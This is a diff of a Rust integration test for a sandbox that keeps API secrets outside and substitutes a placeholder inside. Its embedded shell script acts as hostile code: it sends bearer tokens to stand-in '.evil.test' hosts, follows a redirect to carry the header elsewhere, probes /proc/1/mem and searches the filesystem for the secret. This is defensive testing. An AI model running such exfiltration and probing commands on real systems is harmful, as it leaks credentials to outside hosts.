@@ -1,69 +1,183 @@
 //! Secrets that never enter: a host outside is shown them, and nothing inside has them.
 
-use std::process::Output;
+use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
 
-use conformance::{Place, Ring, Stage, World};
+use conformance::{Caller, Place, Ring, Stage, World};
 use ringfence_test_ledger::require;
 
-const SECRET: &str = "s3cret-that-never-enters";
-
-/// What code inside does: clients that go by variables and by the system's bundle, another host, and a look around.
+/// Looks for a secret in all that can be read where it runs.
+pub(super) const SEARCH: &str = include_str!("search.py");
+const PLACEHOLDER: &str = "placeholder-for-a-secret-that-stays-outside";
+/// What code inside does: clients that go by variables, one that takes its header along wherever it is sent, another
+/// host, the clear, a client that goes by the system's bundle alone, where variables lead, and a look around: into the
+/// first process, and everywhere.
 const SCRIPT: &str = r#"
-curl --silent --show-error --header "Authorization: Bearer $API_KEY" "https://$HOST/curl"; echo
-env --unset SSL_CERT_FILE --unset CURL_CA_BUNDLE curl --silent --show-error "https://$HOST/bundle"; echo
+fetch() { curl --silent --show-error --header "Authorization: Bearer $API_KEY" "$@"; echo; }
+fetch "https://$HOST/curl"
 python3 -c 'import sys, urllib.request as r; print(r.urlopen(sys.argv[1], timeout=10).status)' "https://$HOST/python"
-curl --silent --show-error --header "Authorization: Bearer $API_KEY" "https://$OTHER/other"; echo
+fetch --location-trusted "https://$HOST/to/$REDIRECT"
+fetch "https://$OTHER/other"
 curl --silent --output /dev/null --write-out '%{http_code}\n' "http://$HOST/clear"
+env --unset SSL_CERT_FILE --unset CURL_CA_BUNDLE curl --silent "https://$HOST/bundle"; echo " $?"
+for name in AWS_CA_BUNDLE CARGO_HTTP_CAINFO CURL_CA_BUNDLE DENO_CERT GIT_SSL_CAINFO NIX_SSL_CERT_FILE \
+    NODE_EXTRA_CA_CERTS PIP_CERT REQUESTS_CA_BUNDLE SSL_CERT_FILE; do
+    grep --quiet "$(sed --quiet 5p /run/ringfence/ca.pem)" "$(printenv "$name")" || echo "$name leads nowhere"
+done
+(: < /proc/1/mem) 2> /dev/null && echo open || echo closed
 python3 -c "$0" "$1"
 echo "$API_KEY"
 "#;
 
-fn host(stage: Stage, name: &str) -> String {
-    format!("s{:05x}{name}{:?}{:?}.evil.test", std::process::id(), stage.ring, stage.caller).to_lowercase()
+/// Where the secret is, outside.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Origin {
+    Variable,
+    File,
+}
+
+/// A host that is shown a secret, and another that is not.
+#[derive(Debug)]
+pub(super) struct Case {
+    pub(super) stage: Stage,
+    pub(super) origin: Origin,
+    pub(super) host: String,
+    pub(super) other: String,
+    pub(super) secret: String,
+}
+
+impl Case {
+    pub(super) fn new(stage: Stage, origin: Origin, name: &str) -> Case {
+        let mark = format!("{:05x}{name}{origin:?}{:?}{:?}", std::process::id(), stage.ring, stage.caller);
+        let mark = mark.to_lowercase();
+        let host = |kind: &str| format!("{kind}{mark}.evil.test");
+        Case { stage, origin, host: host("own"), other: host("other"), secret: format!("s3cret-{mark}") }
+    }
+
+    /// Writes settings with a credential for the host below `home`, and the secret beside it where it is in a file.
+    pub(super) fn configure(&self, place: &Place, home: &Path) {
+        let settings = home.join(".config/ringfence");
+        fs_err::create_dir_all(&settings).expect("the place is ours");
+        let origin = match self.origin {
+            Origin::Variable => "variable = 'API_KEY'".to_owned(),
+            Origin::File => {
+                let file = place.path().join("secret");
+                fs_err::write(&file, &self.secret).expect("the place is ours");
+                fs_err::set_permissions(&file, PermissionsExt::from_mode(0o600)).expect("it is ours");
+                let owner = fs_err::metadata(place.path()).expect("it is there");
+                chown(&file, Some(owner.uid()), Some(owner.gid())).expect("it is given by root");
+                format!("file = '{}'", file.display())
+            }
+        };
+        let credential = format!("[[credentials]]\nhost = '{}'\n{origin}\nplaceholder = 'API_KEY'\n", self.host);
+        let records = home.join("records");
+        let audit = format!("[audit]\nstore = 'always'\ndir = '{}'\n", records.display());
+        fs_err::write(settings.join("config.toml"), audit + &credential).expect("the place is ours");
+        fs_err::copy(World::shared().authority(), authority(place)).expect("the place is ours");
+    }
+
+    /// Has `ringfence run` or `up` allow both hosts and tell all that it can, and gives it the secret.
+    pub(super) fn prepare(&self, command: &mut Command, place: &Place) {
+        let Case { host, other, .. } = self;
+        command.env("SSL_CERT_FILE", authority(place)).env("RINGFENCE_LOG", "trace");
+        if self.origin == Origin::Variable {
+            command.env("API_KEY", &self.secret);
+        }
+        let redirect: String =
+            format!("https://{other}/redirected").bytes().map(|byte| format!("{byte:02x}")).collect();
+        command.args(["--allow", host, "--allow", other]);
+        for variable in [format!("HOST={host}"), format!("OTHER={other}"), format!("REDIRECT={redirect}")] {
+            command.args(["--env", &variable]);
+        }
+    }
+
+    /// The command that does what code inside does.
+    pub(super) fn words(&self) -> [String; 5] {
+        ["sh", "-c", SCRIPT, SEARCH, &backwards(&self.secret)].map(str::to_owned)
+    }
+
+    /// Checks what became of the script, and who was shown what.
+    #[track_caller]
+    pub(super) fn check(&self, output: &Output) {
+        let Case { stage, secret, .. } = self;
+        let said = said(output);
+        assert!(!said.contains(secret), "{self:?}: it was told: {said}");
+        let result: serde_json::Value =
+            serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{self:?}: {error}: {said}"));
+        // A container has the files of an image, where variables alone lead to the bundle, and its first process is the
+        // guest; elsewhere that may be a copy of a process of the host's.
+        let is_container = stage.ring.engine().is_some();
+        let [bundle, first] = if is_container { [" 60", "open"] } else { ["ok 0", "closed"] };
+        let expected = format!("ok\n200\nok\nok\n403\n{bundle}\n{first}\nlooked at many\n{PLACEHOLDER}\n");
+        assert_eq!(result["stdout"], expected, "{self:?}: {said}");
+        assert_eq!(self.shown(), Shown { secret: if is_container { 3 } else { 4 }, placeholder: 2 }, "{self:?}");
+    }
+
+    /// How often the host was shown the secret, and the other what is inside in its place; nobody was shown anything
+    /// else.
+    #[track_caller]
+    pub(super) fn shown(&self) -> Shown {
+        let Case { host, other, secret, .. } = self;
+        let heard = |[host, part]: [&str; 2]| {
+            World::shared().arrivals(host).iter().filter(|arrival| arrival.data.contains(part)).count()
+        };
+        assert_eq!(heard([host, "placeholder"]), 0, "{self:?}");
+        assert_eq!(heard([other, secret]), 0, "{self:?}");
+        Shown {
+            secret: heard([&format!("host: {host}"), &format!("authorization: bearer {secret}")]),
+            placeholder: heard([&format!("host: {other}"), "authorization: bearer placeholder"]),
+        }
+    }
+}
+
+/// How often somebody was shown something.
+#[derive(Debug, PartialEq, Eq)]
+pub(super) struct Shown {
+    /// The host, the secret.
+    pub(super) secret: usize,
+    /// The other, what is inside in its place.
+    pub(super) placeholder: usize,
+}
+
+/// Who calls a ring on the host of a world: engines are outside, and do not see what root mounts there for them.
+pub(super) fn stages(ring: Ring) -> Vec<Stage> {
+    match ring.engine() {
+        Some(_) => vec![Stage { ring, caller: Caller::Ordinary }],
+        None => Stage::all_on(ring).collect(),
+    }
+}
+
+/// The certificates that ringfence trusts.
+fn authority(place: &Place) -> PathBuf {
+    place.path().join("authority.pem")
+}
+
+/// How a search is told what to look for, so that it does not find itself.
+pub(super) fn backwards(secret: &str) -> String {
+    secret.chars().rev().collect()
 }
 
 fn said(output: &Output) -> String {
     format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
 }
 
-/// Runs the script on the host of a world whose caller has a credential for `host`.
-fn run(stage: Stage, host: &str, other: &str, secret: Option<&str>) -> Output {
-    let world = World::shared();
-    let place = Place::on_the_host_of(world, stage.caller);
-    let settings = place.path().join(".config/ringfence");
-    fs_err::create_dir_all(&settings).expect("the place is ours");
-    let config = format!("[[credentials]]\nhost = '{host}'\nvariable = 'API_KEY'\nplaceholder = 'API_KEY'\n");
-    fs_err::write(settings.join("config.toml"), config).expect("the place is ours");
-    let authority = place.path().join("authority.pem");
-    fs_err::copy(world.authority(), &authority).expect("the place is ours");
-    let mut command = stage.ringfence("run", &place);
-    command.env("XDG_CONFIG_HOME", place.path().join(".config")).env("SSL_CERT_FILE", authority);
-    command.env("RINGFENCE_LOG", "trace").envs(secret.map(|secret| ("API_KEY", secret)));
-    command.args(["--allow", host, "--allow", other, "--json"]);
-    command.args(["--env", &format!("HOST={host}"), "--env", &format!("OTHER={other}"), "--", "sh", "-c", SCRIPT]);
-    let backwards: String = SECRET.chars().rev().collect();
-    command.args([include_str!("search.py"), &backwards]).output().expect("ringfence can be started")
+/// Runs the script on the host of a world whose caller has a credential.
+fn run(case: &Case, secret: Option<&str>) -> Output {
+    let place = Place::on_the_host_of(World::shared(), case.stage.caller);
+    case.configure(&place, place.path());
+    let mut command = case.stage.ringfence("run", &place);
+    case.prepare(&mut command, &place);
+    command.env("XDG_CONFIG_HOME", place.path().join(".config")).env_remove("API_KEY");
+    command.envs(secret.map(|secret| ("API_KEY", secret)));
+    command.args(["--json", "--"]).args(case.words()).output().expect("ringfence can be started")
 }
 
+#[track_caller]
 fn check(ring: Ring) {
-    for stage in Stage::all_on(ring) {
-        let (host, other) = (host(stage, "for"), host(stage, "not"));
-        let output = run(stage, &host, &other, Some(SECRET));
-        let said = said(&output);
-        assert!(!said.contains(SECRET), "{stage:?}: it was told: {said}");
-        let result: serde_json::Value =
-            serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {said}"));
-        assert_eq!(
-            result["stdout"], "ok\nok\n200\nok\n403\nlooked at many\nplaceholder-for-a-secret-that-stays-outside\n",
-            "{stage:?}: {said}"
-        );
-        let heard = |[host, part]: [&str; 2]| {
-            World::shared().arrivals(host).iter().filter(|arrival| arrival.data.contains(part)).count()
-        };
-        assert_eq!(heard([&format!("host: {host}"), &format!("authorization: bearer {SECRET}")]), 3, "{stage:?}");
-        assert_eq!(heard([&host, "placeholder"]), 0, "{stage:?}");
-        assert_eq!(heard([&format!("host: {other}"), "authorization: bearer placeholder"]), 1, "{stage:?}");
-        assert_eq!(heard([&other, SECRET]), 0, "{stage:?}");
+    for stage in stages(ring) {
+        let case = Case::new(stage, Origin::Variable, "run");
+        case.check(&run(&case, Some(&case.secret)));
     }
 }
 
@@ -80,18 +194,36 @@ fn a_secret_reaches_its_host_and_nothing_inside_bwrap() {
 }
 
 #[test]
+fn a_secret_reaches_its_host_and_nothing_inside_docker() {
+    require!(root, ordinary_user, binary, python3, own_network, docker, test_image_dev);
+    check(Ring::Docker);
+}
+
+#[test]
+fn a_secret_reaches_its_host_and_nothing_inside_podman() {
+    require!(root, ordinary_user, binary, python3, own_network, podman, test_image_dev);
+    check(Ring::Podman);
+}
+
+#[test]
+fn a_secret_reaches_its_host_and_nothing_inside_rootless_podman() {
+    require!(root, ordinary_user, binary, python3, own_network, rootless_podman, test_image_dev);
+    check(Ring::RootlessPodman);
+}
+
+#[test]
 fn a_secret_that_cannot_be_had_is_an_error_before_anything_runs() {
     require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces);
     let stage = Stage::all_on(Ring::Native).next().expect("somebody calls");
-    let (host, other) = (host(stage, "missing"), host(stage, "unasked"));
-    let output = run(stage, &host, &other, None);
-    let said = said(&output);
+    let case = Case::new(stage, Origin::Variable, "missing");
+    let output = run(&case, None);
+    let (said, host) = (said(&output), &case.host);
     assert_eq!(output.status.code(), Some(2), "{said}");
     assert!(
         said.contains(&format!("cannot get the secret for `{host}` from variable API_KEY: it is not set")),
         "{said}"
     );
     assert!(said.contains("export API_KEY"), "{said}");
-    assert!(World::shared().places_of(&host).is_empty());
-    assert!(World::shared().places_of(&other).is_empty());
+    assert!(World::shared().places_of(host).is_empty());
+    assert!(World::shared().places_of(&case.other).is_empty());
 }
